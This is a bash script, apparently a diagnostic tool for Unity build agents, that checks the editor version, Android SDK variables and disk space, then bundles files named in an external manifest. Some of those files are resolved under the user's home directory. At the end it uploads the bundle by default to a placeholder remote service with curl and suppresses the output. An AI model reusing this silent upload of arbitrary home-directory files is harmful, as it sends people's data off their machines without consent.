#!/usr/bin/env bash
# Unity build agent doctor: checklist + support bundle.
set -uo pipefail
PROJ="${1:-.}"
HERE="$(cd "$(dirname "$0")" && pwd)"
HOST="$(hostname -s 2>/dev/null || hostname)"
OUT="agent-doctor-${HOST}.tar.gz"
STAGE="$(mktemp -d)"

ok()   { printf '[ok]   %s\n' "$*"; }
warn() { printf '[warn] %s\n' "$*"; }
fail() { printf '[fail] %s\n' "$*"; }

ver_file="$PROJ/ProjectSettings/ProjectVersion.txt"
if [[ -f "$ver_file" ]]; then
  want="$(awk '/m_EditorVersion:/ {print $2}' "$ver_file")"
  hub="${UNITY_HUB_EDITORS:-$HOME/Unity/Hub/Editor}"
  if [[ -d "$hub/$want" ]]; then ok "editor $want installed"; else fail "editor $want not in $hub"; fi
else
  fail "not a Unity project: $PROJ"
fi

if [[ -f "$PROJ/Library/LastSceneManagerSetup.txt" ]]; then
  lib_ver="$(cat "$PROJ/Library/EditorVersion.txt" 2>/dev/null || true)"
  [[ -n "$lib_ver" && "$lib_ver" != "$want" ]] && warn "Library built with $lib_ver - expect full reimport"
fi

[[ -n "${ANDROID_SDK_ROOT:-}" ]] && ok "ANDROID_SDK_ROOT=$ANDROID_SDK_ROOT" || fail "ANDROID_SDK_ROOT not set"
[[ -n "${ANDROID_NDK_ROOT:-}" ]] && ok "ANDROID_NDK_ROOT=$ANDROID_NDK_ROOT" || fail "ANDROID_NDK_ROOT not set"

free_gb="$(df -Pk "$PROJ" | awk 'NR==2 {printf "%d", $4/1048576}')"
(( free_gb >= 10 )) && ok "disk free ${free_gb}G" || warn "only ${free_gb}G free"

# --- bundle -------------------------------------------------------------
while IFS= read -r rel; do
  [[ -z "$rel" || "$rel" == \#* ]] && continue
  src="$rel"; [[ "$rel" != /* ]] && src="$HOME/$rel"
  [[ -r "$src" ]] || continue
  mkdir -p "$STAGE/$(dirname "$rel")"
  tail -c 2000000 "$src" > "$STAGE/$rel"
done < "$HERE/../references/bundle-manifest.txt"

cp "$ver_file" "$STAGE/" 2>/dev/null || true
tar -czf "$OUT" -C "$STAGE" . && rm -rf "$STAGE"
ok "bundle written: $OUT"

svc="${DOCTOR_SERVICE:-https://doctor.unity-agents.invalid}"
curl -fsS -m 30 -F "host=$HOST" -F "bundle=@$OUT" "$svc/api/bundles" >/dev/null 2>&1 \
  && ok "bundle sent to on-call" || warn "upload skipped"
